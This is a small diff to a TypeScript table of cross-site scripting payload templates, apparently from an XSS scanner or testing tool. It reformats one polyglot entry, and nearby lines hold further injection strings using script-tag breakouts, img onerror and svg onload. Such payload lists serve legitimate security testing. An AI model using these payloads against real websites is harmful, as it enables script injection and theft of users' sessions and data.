@@ -245,8 +245,7 @@ const FAMILIES: Readonly<Record<PayloadFamily, readonly Template[]>> = {
     (m) => `<img src=x onerror="document.body.innerHTML='<img src=x onerror=${m}>'">`,
   ],
   polyglot: [
-    (m) =>
-      `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${m} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${m}//>\\x3e`,
+    (m) => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${m} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${m}//>\\x3e`,
     (m) => `'"--></style></script><script>${m}</script>`,
     (m) => `"'><img src=x onerror=${m}><"'`,
     (m) => `</script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${m}//'>`,
